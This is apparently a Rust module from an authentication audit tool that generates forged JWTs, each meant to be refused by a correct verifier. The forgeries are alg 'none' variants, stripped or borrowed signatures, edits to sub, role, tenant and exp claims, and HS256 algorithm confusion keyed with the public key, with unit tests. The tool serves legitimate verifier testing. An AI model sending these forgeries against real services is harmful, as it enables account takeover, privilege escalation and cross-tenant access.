//! Forged variants of a JWT, each of which a correct verifier must refuse.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Map, Value};

/// A token split into its parts, header and payload decoded.
#[derive(Clone, Debug)]
pub struct Jwt {
    header: Map<String, Value>,
    payload: Map<String, Value>,
    header_b64: String,
    payload_b64: String,
    signature_b64: String,
}

impl Jwt {
    /// `None` unless `token` is three base64url parts with JSON objects in the first two.
    pub fn parse(token: &str) -> Option<Jwt> {
        let mut parts = token.split('.');
        let (header_b64, payload_b64, signature_b64) =
            (parts.next()?, parts.next()?, parts.next()?);
        if parts.next().is_some() {
            return None;
        }
        let decode = |part: &str| -> Option<Map<String, Value>> {
            match serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).ok()?).ok()? {
                Value::Object(map) => Some(map),
                _ => None,
            }
        };
        Some(Jwt {
            header: decode(header_b64)?,
            payload: decode(payload_b64)?,
            header_b64: header_b64.into(),
            payload_b64: payload_b64.into(),
            signature_b64: signature_b64.into(),
        })
    }

    pub fn alg(&self) -> &str {
        self.header.get("alg").and_then(Value::as_str).unwrap_or("")
    }

    pub fn claim(&self, name: &str) -> Option<&Value> {
        self.payload.get(name)
    }
}

/// One forged token and what was forged.
#[derive(Clone, Debug)]
pub struct Variant {
    /// Names the forgery in evidence, e.g. `alg "none", signature dropped`.
    pub name: String,
    pub token: String,
    /// One of the few forgeries sent to every further route: a route that skips
    /// verification (reads the token with a bare decode) accepts all of them.
    pub sweep: bool,
}

fn encode(map: &Map<String, Value>) -> String {
    URL_SAFE_NO_PAD.encode(serde_json::to_vec(map).unwrap_or_default())
}

/// What the forgeries may borrow from elsewhere in the profile.
pub struct Material<'a> {
    /// Another identity's token: its signature is grafted on, its `sub` and tenant borrowed.
    pub other: Option<&'a Jwt>,
    /// The PEM the app verifies asymmetric tokens with (for the HS256 confusion).
    pub public_key: Option<&'a [u8]>,
}

/// Every forgery of `jwt`: `alg: none` (four spellings, with and without the signature),
/// the signature stripped or taken from another token, claims edited under the original
/// signature, and, for asymmetric tokens with a known public key, HS256 keyed with it.
pub fn variants(jwt: &Jwt, material: &Material<'_>) -> Vec<Variant> {
    let mut out = Vec::new();
    let signed_as = |header: &Map<String, Value>, payload_b64: &str, signature: &str| {
        format!("{}.{payload_b64}.{signature}", encode(header))
    };

    for spelling in ["none", "None", "NONE", "nOnE"] {
        let mut header = jwt.header.clone();
        header.insert("alg".into(), Value::String(spelling.into()));
        out.push(Variant {
            name: format!("alg \"{spelling}\", signature dropped"),
            token: signed_as(&header, &jwt.payload_b64, ""),
            sweep: spelling == "none",
        });
    }
    let mut none = jwt.header.clone();
    none.insert("alg".into(), Value::String("none".into()));
    out.push(Variant {
        name: "alg \"none\", original signature kept".into(),
        token: signed_as(&none, &jwt.payload_b64, &jwt.signature_b64),
        sweep: false,
    });
    out.push(Variant {
        name: "signature stripped".into(),
        token: format!("{}.{}.", jwt.header_b64, jwt.payload_b64),
        sweep: true,
    });
    out.push(Variant {
        name: "signature segment removed".into(),
        token: format!("{}.{}", jwt.header_b64, jwt.payload_b64),
        sweep: false,
    });
    if let Some(other) = material.other
        && other.signature_b64 != jwt.signature_b64
    {
        out.push(Variant {
            name: "signature of another identity's token".into(),
            token: format!(
                "{}.{}.{}",
                jwt.header_b64, jwt.payload_b64, other.signature_b64
            ),
            sweep: false,
        });
    }

    // Claims edited, original signature kept.
    let mut edits = 0;
    let mut edit = |name: String, change: &dyn Fn(&mut Map<String, Value>)| {
        let mut payload = jwt.payload.clone();
        change(&mut payload);
        out.push(Variant {
            name,
            token: format!(
                "{}.{}.{}",
                jwt.header_b64,
                encode(&payload),
                jwt.signature_b64
            ),
            // The first edit (another user's `sub`) is in the sweep.
            sweep: edits == 0,
        });
        edits += 1;
    };
    let other_sub = material
        .other
        .and_then(|o| o.claim("sub"))
        .cloned()
        .unwrap_or(Value::String("admin".into()));
    edit("claim `sub` changed to another user".into(), &|p| {
        p.insert("sub".into(), other_sub.clone());
    });
    edit("claim `role` raised to admin".into(), &|p| {
        if p.contains_key("roles") {
            p.insert(
                "roles".into(),
                Value::Array(vec![Value::String("admin".into())]),
            );
        } else {
            p.insert("role".into(), Value::String("admin".into()));
        }
    });
    if let Some(key) = ["tenant", "tenant_id", "org", "org_id"]
        .into_iter()
        .find(|k| jwt.payload.contains_key(*k))
    {
        let other_tenant = material
            .other
            .and_then(|o| o.claim(key))
            .filter(|v| Some(*v) != jwt.payload.get(key))
            .cloned()
            .unwrap_or(Value::String("launch-audit-other-tenant".into()));
        edit(format!("claim `{key}` changed to another tenant"), &|p| {
            p.insert(key.into(), other_tenant.clone());
        });
    }
    if jwt.payload.contains_key("exp") {
        edit("claim `exp` pushed ten years out".into(), &|p| {
            let exp = p.get("exp").and_then(Value::as_u64).unwrap_or(0);
            p.insert(
                "exp".into(),
                Value::from(exp.saturating_add(10 * 365 * 24 * 3600)),
            );
        });
    }

    // Algorithm confusion: an asymmetric token re-signed with HMAC keyed by the public key.
    let asymmetric = ["RS", "PS", "ES"].iter().any(|p| jwt.alg().starts_with(p));
    if let (true, Some(public_key)) = (asymmetric, material.public_key) {
        let mut header = jwt.header.clone();
        header.insert("alg".into(), Value::String("HS256".into()));
        let signing_input = format!("{}.{}", encode(&header), jwt.payload_b64);
        let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, public_key);
        let signature =
            URL_SAFE_NO_PAD.encode(ring::hmac::sign(&key, signing_input.as_bytes()).as_ref());
        out.push(Variant {
            name: format!(
                "alg switched {} → HS256, signed with the public key",
                jwt.alg()
            ),
            token: format!("{signing_input}.{signature}"),
            sweep: false,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn token(header: &str, payload: &str) -> String {
        format!(
            "{}.{}.c2ln",
            URL_SAFE_NO_PAD.encode(header),
            URL_SAFE_NO_PAD.encode(payload)
        )
    }

    #[test]
    fn parses_only_jwts() {
        assert!(Jwt::parse(&token(r#"{"alg":"RS256"}"#, r#"{"sub":"a"}"#)).is_some());
        assert!(Jwt::parse("opaque-token").is_none());
        assert!(Jwt::parse("a.b.c").is_none());
    }

    #[test]
    fn forgeries_cover_every_class() {
        let jwt = Jwt::parse(&token(
            r#"{"alg":"RS256","kid":"k"}"#,
            r#"{"sub":"u1","tenant":"a","exp":10}"#,
        ))
        .unwrap();
        let other = Jwt::parse(
            &token(r#"{"alg":"RS256"}"#, r#"{"sub":"u2","tenant":"b"}"#).replace("c2ln", "b3RoZXI"),
        )
        .unwrap();
        let all = variants(
            &jwt,
            &Material {
                other: Some(&other),
                public_key: Some(b"-----BEGIN PUBLIC KEY-----"),
            },
        );
        let names: Vec<&str> = all.iter().map(|v| v.name.as_str()).collect();
        for needle in [
            "\"none\"",
            "\"nOnE\"",
            "original signature kept",
            "stripped",
            "another identity",
            "`sub`",
            "`role`",
            "`tenant`",
            "`exp`",
            "HS256",
        ] {
            assert!(
                names.iter().any(|n| n.contains(needle)),
                "{needle} missing from {names:?}"
            );
        }
        let none = Jwt::parse(&all[0].token).unwrap();
        assert_eq!(none.alg(), "none");
        assert!(all[0].token.ends_with('.'));
        let tenant = all.iter().find(|v| v.name.contains("`tenant`")).unwrap();
        assert_eq!(
            Jwt::parse(&tenant.token).unwrap().claim("tenant"),
            Some(&Value::String("b".into()))
        );
    }
}
